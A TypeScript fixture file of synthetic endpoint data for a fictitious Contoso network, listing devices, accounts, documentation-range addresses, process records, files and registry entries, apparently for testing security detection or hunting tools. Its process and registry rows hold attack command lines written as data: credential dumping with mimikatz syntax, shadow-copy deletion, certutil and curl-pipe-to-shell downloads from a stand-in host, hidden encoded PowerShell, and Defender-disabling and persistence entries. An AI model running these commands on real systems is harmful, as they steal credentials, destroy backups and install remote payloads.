/** Devices, accounts and addresses of a made-up organisation; documentation ranges and role accounts only. */
export interface DeviceRow {
  readonly name: string;
  readonly os: string;
  readonly build: number;
  readonly version: string;
  readonly group: string;
  readonly ip: string;
  readonly ip6: string;
  readonly tags: readonly string[];
}

export const DNS_DOMAIN = 'corp.contoso.com';
export const NT_DOMAIN = 'CONTOSO';

export const DEVICES: readonly [DeviceRow, ...DeviceRow[]] = [
  { name: 'desktop-4a5ngd6', os: 'Windows11', build: 26100, version: '24H2', group: 'Workstations', ip: '10.20.4.17', ip6: 'fd30:0:0:1:ff4e:3e:9:e', tags: [] },
  { name: 'desktop-9kq21ma', os: 'Windows11', build: 22631, version: '23H2', group: 'Workstations', ip: '10.20.4.90', ip6: 'fd30:0:0:1::5a', tags: ['Finance'] },
  { name: 'laptop-7f2c0de', os: 'Windows10', build: 19045, version: '22H2', group: 'Workstations', ip: '10.20.7.33', ip6: 'fd30:0:0:2::21', tags: ['Travel', 'Old image'] },
  { name: 'srv-file-01', os: 'WindowsServer2019', build: 17763, version: '1809', group: 'Servers', ip: '10.20.1.11', ip6: 'fd30:0:0:3::b', tags: ['Tier1'] },
  { name: 'srv-dc-02', os: 'WindowsServer2022', build: 20348, version: '21H2', group: 'Domain controllers', ip: '10.20.1.5', ip6: 'fd30:0:0:3::5', tags: ['Tier0'] },
  { name: 'srv-web-03', os: 'Linux', build: 0, version: '12.5', group: 'Servers', ip: '10.20.9.8', ip6: 'fd30:0:0:9::8', tags: ['DMZ'] },
  { name: 'mac-design-12', os: 'macOS', build: 24, version: '15.1', group: 'UnassignedGroup', ip: '10.20.6.52', ip6: 'fd30:0:0:6::34', tags: [] },
  { name: 'kiosk-hall-a', os: 'Windows10', build: 17763, version: '1809', group: 'Kiosks', ip: '10.20.30.2', ip6: 'fd30:0:0:1e::2', tags: ['Shared'] },
];

export interface UserRow {
  readonly account: string;
  readonly display: string;
  readonly sid: string;
}

export const USERS: readonly [UserRow, ...UserRow[]] = [
  { account: 'finance.clerk', display: 'Finance clerk', sid: 'S-1-5-21-1004336348-1177238915-682003330-1104' },
  { account: 'helpdesk.one', display: 'Helpdesk one', sid: 'S-1-5-21-1004336348-1177238915-682003330-1121' },
  { account: 'svc-backup', display: 'Backup service', sid: 'S-1-5-21-1004336348-1177238915-682003330-1188' },
  { account: 'dev.build', display: 'Build account', sid: 'S-1-5-21-1004336348-1177238915-682003330-1203' },
  { account: 'sales.north', display: 'Sales north', sid: 'S-1-5-21-1004336348-1177238915-682003330-1240' },
  { account: 'domain.admin', display: 'Domain admin', sid: 'S-1-5-21-1004336348-1177238915-682003330-500' },
];

export const REMOTE_IPV4: readonly [string, ...string[]] = ['203.0.113.7', '203.0.113.201', '198.51.100.23', '198.51.100.250', '192.0.2.66'];
export const REMOTE_IPV6: readonly [string, ...string[]] = ['2001:db8:0:17::6a', '2001:DB8:85A3:0000:0000:8A2E:0370:7334', '2001:db8::bad:cafe'];
export const URLS: readonly [string, ...string[]] = [
  'http://updates.example.net/kb/patch.bin?id=7&v=2',
  'https://login.example.org/common/oauth2/authorize?client_id=1&redirect_uri=https%3A%2F%2Fcollect.example.org',
  'down.example.com',
  'https://files.example.net/invoice/2026-11.zip#start',
  'http://203.0.113.7:8080/a.php',
];

export interface ProcessRow {
  readonly file: string;
  readonly folder: string;
  readonly publisher: string | null;
  readonly commandLine: string;
  readonly parent: string;
}

export const PROCESSES: readonly [ProcessRow, ...ProcessRow[]] = [
  { file: 'powershell.exe', folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', publisher: 'Microsoft Corporation', commandLine: 'powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA', parent: 'winword.exe' },
  { file: 'rundll32.exe', folder: 'C:\\Windows\\System32', publisher: 'Microsoft Corporation', commandLine: '"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\Public\\drop.dll,Start', parent: 'explorer.exe' },
  { file: 'cmd.exe', folder: 'C:\\Windows\\System32', publisher: 'Microsoft Corporation', commandLine: 'cmd.exe /c "vssadmin delete shadows /all /quiet & wmic shadowcopy delete"', parent: 'services.exe' },
  { file: 'mimi.exe', folder: 'C:\\Users\\Public\\Downloads', publisher: null, commandLine: 'mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit', parent: 'cmd.exe' },
  { file: 'certutil.exe', folder: 'C:\\Windows\\System32', publisher: 'Microsoft Corporation', commandLine: 'certutil -urlcache -split -f http://updates.example.net/kb/patch.bin %TEMP%\\p.exe', parent: 'cmd.exe' },
  { file: 'schtasks.exe', folder: 'C:\\Windows\\System32', publisher: 'Microsoft Corporation', commandLine: 'schtasks /create /tn "Updater" /tr "C:\\ProgramData\\u.vbs" /sc minute /mo 15', parent: 'powershell.exe' },
  { file: 'psexesvc.exe', folder: 'C:\\Windows', publisher: 'Sysinternals', commandLine: 'PSEXESVC.exe', parent: 'services.exe' },
  { file: 'bash', folder: '/usr/bin', publisher: null, commandLine: "bash -c 'curl -fsSL http://203.0.113.7:8080/a.sh | sh'", parent: 'sshd' },
];

export interface FileRow {
  readonly file: string;
  readonly folder: string;
  readonly size: number;
}

export const FILES: readonly [FileRow, ...FileRow[]] = [
  { file: 'invoice_2026-11.pdf.exe', folder: 'C:\\Users\\Public\\Downloads', size: 482_304 },
  { file: 'drop.dll', folder: 'C:\\Users\\Public', size: 91_136 },
  { file: 'Lieferschein März.docm', folder: 'C:\\Users\\finance.clerk\\Desktop', size: 64_512 },
  { file: 'u.vbs', folder: 'C:\\ProgramData', size: 2_114 },
  { file: '.cache', folder: '/tmp', size: 1_048_576 },
];

export const REGISTRY: readonly [readonly [string, string, string], ...(readonly [string, string, string])[]] = [
  ['SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'Updater', 'C:\\ProgramData\\u.vbs'],
  ['SOFTWARE\\Policies\\Microsoft\\Windows Defender', 'DisableAntiSpyware', '1'],
  ['SYSTEM\\CurrentControlSet\\Services\\psexesvc', 'ImagePath', '%SystemRoot%\\PSEXESVC.exe'],
];
